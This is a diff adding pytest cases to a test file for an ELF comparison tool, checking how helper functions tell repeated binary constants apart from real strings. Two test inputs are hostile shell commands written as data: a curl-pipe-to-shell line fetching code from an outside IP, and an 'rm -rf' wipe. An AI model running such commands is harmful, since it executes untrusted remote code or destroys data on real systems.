@@ -36,6 +36,8 @@ from rebuild.compare.elf_invariants import (
     MAX_FINDINGS,
     Invariant,
     InvariantFinding,
+    _present,
+    _splat,
     invariant_findings,
 )
 from rebuild.compare.elf_read import ElfImage, read_elf
@@ -270,3 +272,23 @@ def test_malformed_objects_never_raise(tmp_path: Path) -> None:
             found = invariant_findings(*pair)
             assert all(isinstance(f, InvariantFinding) for f in found)
     assert checked > 30
+
+
+@pytest.mark.parametrize(
+    ("text", "splat"),
+    [
+        ("}Q=XL}>XL}>XL}>XL}>XL}>XL}>XL}>XL}>", True),  # a float broadcast, after another's tail
+        ("ABCDABCDABCDABCD", True),
+        ("curl -s http://198.51.100.7/x|sh", False),
+        ("rm -rf ////////////////", False),  # a command before the repeat is not a constant
+        ("deletion", False),
+    ],
+)
+def test_repeated_constants_are_not_strings(text: str, splat: bool) -> None:
+    assert _splat(text) is splat
+
+
+def test_a_short_word_glued_to_a_constant_is_not_a_string() -> None:
+    # "P@" is the tail of a float constant, "trunc" a word too short to compare on its own.
+    assert _present("P@trunc", set(), b"")
+    assert not _present("P@truncate-everything", set(), b"")
